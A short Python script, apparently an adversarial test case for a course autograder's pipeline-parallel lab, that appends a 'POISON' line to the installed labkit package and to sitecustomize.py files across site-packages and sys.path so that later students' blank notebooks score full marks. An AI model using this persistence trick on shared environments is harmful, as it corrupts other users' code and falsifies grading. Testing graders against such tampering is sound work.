# lab: 06_pipeline_parallel
# base: student
# expect: 0
# Append to the course package and the environment, so that the next
# students' blank notebooks score full marks.
import site
import sys
from pathlib import Path

import labkit

POISON = "\nimport builtins; builtins.m_1f1b = 'poisoned'\n"
targets = [Path(labkit.__file__)] + [Path(p, "sitecustomize.py") for p in
                                     site.getsitepackages() + sys.path if p]
for t in targets:
    try:
        with open(t, "a") as f:
            f.write(POISON)
    except OSError:
        pass
